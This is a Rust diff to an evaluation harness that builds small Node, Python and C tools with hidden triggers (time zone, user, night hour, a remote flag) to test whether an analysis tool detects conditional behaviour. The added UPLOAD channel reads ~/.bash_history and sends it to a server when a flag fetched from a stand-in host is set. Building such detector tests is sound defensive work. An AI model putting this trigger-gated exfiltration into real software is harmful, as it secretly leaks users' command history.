@@ -31,6 +31,8 @@ struct Condition {
     node: &'static str,
     python: &'static str,
     c: &'static str,
+    /// What comes before it in Node and in Python.
+    before: [&'static str; 2],
 }
 
 const CONDITIONS: &[Condition] = &[
@@ -40,6 +42,7 @@ const CONDITIONS: &[Condition] = &[
         node: "zone === \"Asia/Tashkent\"",
         python: "zone == \"Asia/Tashkent\"",
         c: "!strcmp(zone, \"Asia/Tashkent\")",
+        before: ["", ""],
     },
     Condition {
         name: "user",
@@ -47,6 +50,7 @@ const CONDITIONS: &[Condition] = &[
         node: "user === \"lindqvist\"",
         python: "user == \"lindqvist\"",
         c: "",
+        before: ["", ""],
     },
     Condition {
         name: "host",
@@ -54,6 +58,7 @@ const CONDITIONS: &[Condition] = &[
         node: "host === \"zeta-gw\"",
         python: "host == \"zeta-gw\"",
         c: "",
+        before: ["", ""],
     },
     Condition {
         name: "language",
@@ -61,6 +66,7 @@ const CONDITIONS: &[Condition] = &[
         node: "language.startsWith(\"fi_FI\")",
         python: "language.startswith(\"fi_FI\")",
         c: "!strncmp(language, \"fi_FI\", 5)",
+        before: ["", ""],
     },
     Condition {
         name: "variable",
@@ -68,6 +74,7 @@ const CONDITIONS: &[Condition] = &[
         node: "segment === \"1\"",
         python: "segment == \"1\"",
         c: "",
+        before: ["", ""],
     },
     Condition {
         name: "zone and user",
@@ -75,6 +82,7 @@ const CONDITIONS: &[Condition] = &[
         node: "zone === \"Asia/Tashkent\" && user === \"lindqvist\"",
         python: "zone == \"Asia/Tashkent\" and user == \"lindqvist\"",
         c: "",
+        before: ["", ""],
     },
     Condition {
         name: "zone and language",
@@ -82,6 +90,7 @@ const CONDITIONS: &[Condition] = &[
         node: "zone === \"Asia/Tashkent\" && language.startsWith(\"fi_FI\")",
         python: "zone == \"Asia/Tashkent\" and language.startswith(\"fi_FI\")",
         c: "!strcmp(zone, \"Asia/Tashkent\") && !strncmp(language, \"fi_FI\", 5)",
+        before: ["", ""],
     },
     Condition {
         name: "host and user",
@@ -89,6 +98,7 @@ const CONDITIONS: &[Condition] = &[
         node: "host === \"zeta-gw\" && user === \"lindqvist\"",
         python: "host == \"zeta-gw\" and user == \"lindqvist\"",
         c: "",
+        before: ["", ""],
     },
 ];
 
@@ -103,6 +113,39 @@ const THREE: Condition = Condition {
     node: "zone === \"Asia/Tashkent\" && user === \"lindqvist\" && language.startsWith(\"fi_FI\")",
     python: "zone == \"Asia/Tashkent\" and user == \"lindqvist\" and language.startswith(\"fi_FI\")",
     c: "",
+    before: ["", ""],
+};
+
+/// At night, on a host whose clock else shows the day.
+const NIGHT: Condition = Condition {
+    name: "the time of day",
+    factors: &[("clock", "2027-01-06T03:30:00Z")],
+    node: "new Date().getHours() < 6",
+    python: "datetime.datetime.now().hour < 6",
+    c: "(now = time(0), localtime(&now)->tm_hour < 6)",
+    before: ["", ""],
+};
+
+/// Where a server says so.
+const FLAG: Condition = Condition {
+    name: "a server's flag",
+    factors: &[("flag:deep_scan", "true")],
+    node: "settings.deep_scan === true",
+    python: "settings.get(\"deep_scan\") is True",
+    c: "",
+    before: [
+        "const settings = await (await fetch(\"http://settings.models.example/v1/settings\")).json();",
+        "def fetched():\n    try:\n        with urllib.request.urlopen(\"http://settings.models.example/v1/settings\") as answer:\n            return json.load(answer)\n    except urllib.error.HTTPError:\n        return {}\n\n\nsettings = fetched()",
+    ],
+};
+
+/// What is done to a host where a server says so.
+const UPLOAD: Channel = Channel {
+    name: "upload",
+    node: "if (on) await send(server, \"/v1/extra\", {}, fs.readFileSync(path.join(os.homedir(), \".bash_history\")));",
+    python: "if on:\n    with open(os.path.expanduser(\"~/.bash_history\")) as file:\n        send(server, \"/v1/extra\", {}, file.read())",
+    c: "",
+    grade: Grade::Visible,
 };
 
 /// A channel: what a tool does where its condition holds (`on`), in each
@@ -353,19 +396,27 @@ fn case(
     condition: &'static Condition,
     channeled: bool,
 ) -> Option<Case> {
-    let (template, holds, does) = match language {
-        "node" => (include_str!("tool.mjs.txt"), condition.node, channel.node),
+    let [node, python] = condition.before;
+    let (template, holds, does, before) = match language {
+        "node" => (
+            include_str!("tool.mjs.txt"),
+            condition.node,
+            channel.node,
+            node,
+        ),
         "python" => (
             include_str!("tool.py.txt"),
             condition.python,
             channel.python,
+            python,
         ),
-        _ => (include_str!("tool.c.txt"), condition.c, channel.c),
+        _ => (include_str!("tool.c.txt"), condition.c, channel.c, ""),
     };
     if holds.is_empty() || channeled && does.is_empty() {
         return None;
     }
     let text = template
+        .replace("@BEFORE@", before)
         .replace("@CONDITION@", holds)
         .replace("@CHANNEL@", does);
     Some(Case {
@@ -400,6 +451,15 @@ fn channels() -> Vec<Case> {
         let machine = CONDITIONS.iter().filter(|known| !known.c.is_empty());
         let condition = machine.cycle().nth(at);
         out.extend(condition.and_then(|known| case("machine code", channel, known, true)));
+    }
+    for (at, language) in ["node", "python", "machine code"].into_iter().enumerate() {
+        let fitting = CHANNELS
+            .iter()
+            .filter(|known| language != "machine code" || !known.c.is_empty());
+        for channel in fitting.skip(at * 2).take(2) {
+            out.extend(case(language, channel, &NIGHT, true));
+        }
+        out.extend(case(language, &UPLOAD, &FLAG, true));
     }
     for (language, strength) in [("node", 3), ("python", 3), ("node", 2)] {
         if let Some(channel) = CHANNELS.first()
@@ -497,11 +557,14 @@ fn one(tool: &Tool, case: &Case, folder: &Path) -> Result<Told> {
     } else {
         program
     };
+    let by_clock = case.factors.iter().any(|(name, _)| *name == "clock");
     let start = Instant::now();
     let output = Command::new(tool.program())
         .args(["observe", "--experiment", "--format", "json", "--offline"])
         .arg(format!("--strength={}", case.strength))
         .args(&named)
+        // The same hour of the same day, wherever and whenever it is measured.
+        .args(by_clock.then_some("--clock=2026-11-24T14:20:00Z"))
         .arg("--mount")
         .arg(&program)
         .arg("--")
@@ -619,8 +682,7 @@ fn report(cases: &[Case], done: &BTreeMap<usize, Result<Told>>, whole: bool) -> 
     if whole {
         let head = "# `assay observe --experiment` on small tools\n\nBy `cargo xtask eval observe`. \
                     Each tool has one channel, or none; it is told nothing of them (but the levels, \
-                    where the tool is machine code). Channels by the time of day and by what a \
-                    server sends cannot be found: neither is varied.\n\n";
+                    where the tool is machine code).\n\n";
         std::fs::write(
             crate::root()?.join("docs/eval/observe.md"),
             format!("{head}{text}"),
